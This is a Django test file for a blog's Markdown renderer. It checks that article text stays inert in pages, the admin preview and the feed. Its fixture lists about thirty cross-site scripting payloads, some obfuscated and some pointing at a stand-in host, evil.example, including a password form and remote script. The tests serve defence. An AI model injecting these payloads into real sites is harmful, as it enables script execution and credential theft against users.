"""Attacks in an article are inert in the page, the feed and the preview."""

import re
from html.parser import HTMLParser
from xml.etree import ElementTree

from django.test import SimpleTestCase, TestCase

from blog.markdown import ATTRIBUTES, TAGS, render
from tests.blog.cast import make_article, make_rosalind

ATTACKS = {
    "a script": "<script>alert(1)</script>",
    "a script in mixed case, unclosed": "<ScRiPt src=//evil.example/x.js",
    "an event handler": "<img src=x onerror=alert(1)>",
    "a handler on a link": '<a href="/" onmouseover="alert(1)">x</a>',
    "SVG": '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    "SVG with a link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "MathML": '<math><mtext><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></mtext></math>',
    "a frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "style": "<style>@import '//evil.example'</style><p style=\"background:url(//evil.example)\">x</p>",
    "a form": '<form action="//evil.example"><input name="password"></form>',
    "another base": '<base href="//evil.example"><meta http-equiv="refresh" content="0;url=//evil.example">',
    "a javascript: link": "[x](javascript:alert(1))",
    "in mixed case": "[x](JaVaScRiPt:alert(1))",
    "in entities": "[x](&#106;avascript&colon;alert(1))",
    "with a tab in it": "[x](java&Tab;script:alert(1))",
    "with a control character": "[x](\x01javascript:alert(1))",
    "in angle brackets": "<javascript:alert(1)>",
    "by reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "a vbscript: link": "[x](vbscript:msgbox(1))",
    "a data: link": "[x](data:text/html,<script>alert(1)</script>)",
    "a data: link in base64": "[x](DaTa:text/html;base64,PHNjcmlwdD4=)",
    "a data: image": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "a data: image that parsers allow": "![x](data:image/png;base64,AAAA)",
    "a javascript: image": "![x](javascript:alert(1))",
    "a remote image": "![x](https://evil.example/pixel.png)",
    "a quote that breaks out of an attribute": '[x](/ "a\\" onclick=alert(1) b=\\"")',
    "a quote in a description": '![x" onerror="alert(1)](/static/x.png)',
    "a quote in a code language": '```"onclick="alert(1)\nx\n```',
    "an end of script and a comment": "</script><!-- --!> <img src=x onerror=alert(1)> -->",
    "an end of CDATA": "]]><script>alert(1)</script>",
}
SCHEMES = {"http", "https", "mailto"}


class Elements(HTMLParser):
    """Collects the elements of a fragment."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def get_scheme(address: str) -> str | None:
    """The scheme of an address as a browser finds it, after the characters that a browser strips are gone."""
    address = re.sub(r"^[\x00-\x20]+|[\t\n\r]", "", address)
    scheme = re.match(r"([a-z][a-z0-9+.-]*):", address, re.IGNORECASE)
    return scheme[1].lower() if scheme else None


def prove_inert(html: str) -> None:
    """Fail unless it has only the tags and attributes of prose, harmless links, and the site's own images."""
    for tag, attributes in Elements(html).found:
        assert tag in TAGS, tag
        fixed = {"align", "tabindex", "role", "aria-label", "class"}
        assert attributes.keys() <= ATTRIBUTES.get(tag, set()) | fixed, (tag, attributes)
        if tag == "a" and "href" in attributes:
            assert get_scheme(attributes["href"] or "") in SCHEMES | {None}, attributes
        if tag == "img":
            assert (attributes.get("src") or "/").startswith("/static/"), attributes


class Attacks(SimpleTestCase):
    def test_none_survives_the_renderer(self) -> None:
        for name, attack in ATTACKS.items():
            for source in (
                attack,
                f"Some words {attack} and more",
                f"> - {attack}",
                f"| a |\n| - |\n| {attack} |",
            ):
                with self.subTest(name, source=source):
                    prove_inert(render(source))

    def test_all_of_them_at_once_do_not_either(self) -> None:
        prove_inert(render("\n\n".join(ATTACKS.values())))


class AttacksInPlace(TestCase):
    """The same text on the pages on which readers and editors see it."""

    def setUp(self) -> None:
        self.rosalind = make_rosalind()
        self.body = "\n\n".join(ATTACKS.values())
        self.article = make_article(
            self.rosalind,
            "<script>alert(1)</script>",
            slug="plums",
            summary='"><img src=x onerror=alert(1)>',
            body=self.body,
        )

    def assert_only_our_scripts(self, html: str) -> None:
        for tag, attributes in Elements(html).found:
            self.assertNotIn(tag, {"svg", "math", "iframe", "style", "base", "object", "embed"})
            self.assertFalse(
                [name for name in attributes if name.startswith("on") or name == "style"], attributes
            )
            if tag == "script" and attributes.get("type") != "application/json":
                self.assertTrue((attributes.get("src") or "").startswith("/static/"), attributes)
            if tag == "img":
                self.assertTrue((attributes.get("src") or "").startswith("/static/"), attributes)

    def test_in_the_page_and_the_lists(self) -> None:
        for address in ("/articles/plums/", "/"):
            self.assert_only_our_scripts(self.client.get(address).text)

    def test_in_the_preview(self) -> None:
        self.client.force_login(self.rosalind)
        form = {"title": self.article.title, "summary": self.article.summary, "body": self.body}
        self.assert_only_our_scripts(self.client.post("/admin/blog/article/preview/", form).text)

    def test_in_the_feed(self) -> None:
        feed = ElementTree.fromstring(self.client.get("/feed/").content)  # noqa: S314 - our own feed
        atom = "{http://www.w3.org/2005/Atom}"
        prove_inert(feed.findtext(f"{atom}entry/{atom}content") or "")
        prove_inert(feed.findtext(f"{atom}entry/{atom}summary") or "")
